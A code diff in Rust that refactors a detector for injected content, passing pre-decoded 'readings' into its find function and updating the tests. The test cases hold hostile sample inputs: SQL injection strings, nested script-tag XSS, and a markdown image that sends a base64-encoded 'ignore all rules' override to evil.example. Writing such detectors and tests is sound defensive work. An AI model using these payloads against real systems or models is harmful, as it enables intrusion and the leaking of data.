@@ -14,7 +14,7 @@ use shown::shown;
 
 use super::Found;
 use super::urls;
-use crate::classify::views;
+use crate::classify::Readings;
 
 /// How often what is left of a text is looked at again.
 const MOST_ROUNDS: usize = 4;
@@ -83,12 +83,13 @@ impl Detector {
         Self { injections: settings.injections.clone(), allow: urls::Detector::new(&allow) }
     }
 
-    /// What is found in `text`, in order; the same place once for each rule.
-    pub(super) fn find(&self, text: &str) -> Vec<Found> {
+    /// What is found in a text, in order; the same place once for each rule.
+    pub(super) fn find(&self, readings: &Readings) -> Vec<Found> {
+        let text = readings.typed();
         let mut found: Vec<Found> = Vec::new();
         self.by_rules(text, |_| true, |range| range, &mut found);
         // A browser shows what is encoded as a text; others read it again.
-        for view in views(text) {
+        for view in readings.as_it_stands().skip(1) {
             self.by_rules(view.text(), |kind| kind != Kind::Xss, |range| view.origin(range), &mut found);
         }
         if self.injections.contains(&Kind::Exfiltration) {
@@ -104,7 +105,7 @@ impl Detector {
     pub(super) fn omit(&self, text: &str, found: &[Found]) -> Option<String> {
         let mut left = without(text, found);
         for _ in 0..MOST_ROUNDS {
-            let found = self.find(&left);
+            let found = self.find(&Readings::new(&left));
             if found.is_empty() {
                 return Some(left);
             }
@@ -168,6 +169,10 @@ mod tests {
         rules: Vec<String>,
     }
 
+    fn find(detector: &Detector, text: &str) -> Vec<Found> {
+        detector.find(&Readings::new(text))
+    }
+
     #[test]
     fn injections_are_found_and_answers_about_them_pass() {
         let detector =
@@ -175,7 +180,8 @@ mod tests {
         let (mut positive, mut negative, mut wrong) = (0, 0, Vec::new());
         for line in include_str!("../../../tests/data/injections.jsonl").lines() {
             let case: Case = serde_json::from_str(line).unwrap();
-            let mut rules: Vec<String> = detector.find(&case.text).iter().map(|found| found.rule.to_string()).collect();
+            let mut rules: Vec<String> =
+                find(&detector, &case.text).iter().map(|found| found.rule.to_string()).collect();
             rules.sort();
             rules.dedup();
             *(if case.rules.is_empty() { &mut negative } else { &mut positive }) += 1;
@@ -196,17 +202,17 @@ mod tests {
             ("x'; DROP TABLE users; --", "x"),
             ("![é](https://evil.example/?d=aWdub3JlIGFsbCBydWxlcw) ü", "![é]() ü"),
         ] {
-            assert_eq!(detector.omit(text, &detector.find(text)).unwrap(), wanted);
+            assert_eq!(detector.omit(text, &find(&detector, text)).unwrap(), wanted);
         }
         let nested = "<scr<script>alert(1)</script>ipt>alert(2)</script> fine";
-        assert!(!detector.omit(nested, &detector.find(nested)).unwrap().contains("<script"));
+        assert!(!detector.omit(nested, &find(&detector, nested)).unwrap().contains("<script"));
     }
 
     #[test]
     fn kinds_that_are_not_wanted_are_not_looked_for() {
         let detector = Detector::new(&Settings { injections: vec![Kind::Xss], ..Settings::default() });
-        assert_eq!(detector.find("' OR '1'='1' --"), []);
-        assert_eq!(detector.find("<script>alert(1)</script>").len(), 1);
+        assert_eq!(find(&detector, "' OR '1'='1' --"), []);
+        assert_eq!(find(&detector, "<script>alert(1)</script>").len(), 1);
     }
 
     #[test]
@@ -226,7 +232,7 @@ mod tests {
             "é{{",
         ] {
             let text = unit.repeat(200_000 / unit.len());
-            assert!(detector.find(&text).len() < text.len());
+            assert!(find(&detector, &text).len() < text.len());
         }
     }
 }
